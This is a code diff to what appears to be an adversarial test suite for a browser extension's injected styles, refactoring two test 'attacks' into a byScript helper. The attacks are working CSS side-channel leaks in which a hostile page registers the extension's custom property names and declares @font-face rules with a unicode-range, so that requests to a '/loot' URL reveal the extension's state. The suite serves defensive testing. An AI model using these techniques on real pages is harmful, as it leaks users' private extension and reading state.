@@ -1,6 +1,6 @@
 /** Pages that give a meaning of their own to what our styles could take from them: names of the whole document, fonts, what is inherited. */
 import { STEADY_MS } from '../../../../lib/in-page/visibility.ts';
-import type { Attack, Scene } from '../attack.ts';
+import { type Attack, byScript, type Scene } from '../attack.ts';
 import { showsNothing } from '../person.ts';
 
 const names = [
@@ -25,34 +25,32 @@ export const naming: readonly Attack[] = [
     name: 'registers our custom properties, and is asked for what they stand for',
     against: 'plain-values',
     wants: 'state',
-    play: ({ page }) =>
-      page.evaluate(async (names) => {
-        for (const name of names) {
-          const initialValue = `url(${location.origin}/loot?${name})`;
-          CSS.registerProperty({ name, syntax: '*', inherits: false, initialValue });
-        }
-        await new Promise((resolve) => setTimeout(resolve, 1_000));
-        return window.bringHome('all');
-      }, names),
+    play: byScript(async (names) => {
+      for (const name of names) {
+        const initialValue = `url(${location.origin}/loot?${name})`;
+        CSS.registerProperty({ name, syntax: '*', inherits: false, initialValue });
+      }
+      await new Promise((resolve) => setTimeout(resolve, 1_000));
+      return window.bringHome('all');
+    }, names),
   },
   {
     name: 'has a font of its own for every name, which is asked for when a letter stands there',
     against: 'fonts-by-kind',
     wants: 'state',
-    play: ({ page }) =>
-      page.evaluate(async () => {
-        const fonts = ['system-ui', 'sans-serif', 'ui-sans-serif', '-apple-system', 'Segoe UI', 'Roboto', 'Noto Sans'];
-        const sheet = new CSSStyleSheet();
-        // The capital of "Read", which nothing begins with where a chapter is unread.
-        const faceOf = (font: string) =>
-          `@font-face { font-family: "${font}"; src: url("${location.origin}/loot?R"); unicode-range: U+52 }`;
-        sheet.replaceSync(fonts.map(faceOf).join('\n'));
-        document.adoptedStyleSheets.push(sheet);
-        // Each font that something is to be painted with has been asked for two frames later, and has come, or not, when all are ready.
-        for (let frame = 0; frame < 2; frame++) await new Promise(requestAnimationFrame);
-        await document.fonts.ready;
-        return window.bringHome('all');
-      }),
+    play: byScript(async () => {
+      const fonts = ['system-ui', 'sans-serif', 'ui-sans-serif', '-apple-system', 'Segoe UI', 'Roboto', 'Noto Sans'];
+      const sheet = new CSSStyleSheet();
+      // The capital of "Read", which nothing begins with where a chapter is unread.
+      const faceOf = (font: string) =>
+        `@font-face { font-family: "${font}"; src: url("${location.origin}/loot?R"); unicode-range: U+52 }`;
+      sheet.replaceSync(fonts.map(faceOf).join('\n'));
+      document.adoptedStyleSheets.push(sheet);
+      // Each font that something is to be painted with has been asked for two frames later, and has come, or not, when all are ready.
+      for (let frame = 0; frame < 2; frame++) await new Promise(requestAnimationFrame);
+      await document.fonts.ready;
+      return window.bringHome('all');
+    }),
   },
   {
     name: 'lets our words inherit a colour of nothing',
